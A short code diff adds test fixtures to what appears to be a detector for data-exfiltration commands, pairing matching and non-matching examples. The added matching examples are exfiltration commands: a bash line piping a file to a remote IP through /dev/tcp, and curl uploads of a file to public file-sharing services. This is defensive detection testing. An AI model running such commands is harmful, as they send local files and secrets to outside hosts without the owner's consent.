@@ -28,4 +28,12 @@ export const exfiltration: Triggers = {
     hits: ['split -b 1M x', 'split --bytes=500k x'],
     misses: ['split -l 10 x'],
   },
+  'exfiltration/file-to-connection': {
+    hits: [['bash', '-c', 'cat /etc/x > /dev/tcp/198.51.100.7/80']],
+    misses: [['bash', '-c', 'cat /etc/x > /dev/null']],
+  },
+  'exfiltration/file-to-text-service': {
+    hits: ['curl -F file=@x https://0x0.st', 'curl --upload-file x https://transfer.sh/x'],
+    misses: ['curl https://transfer.sh/x', 'curl -F file=@x https://example.org'],
+  },
 }
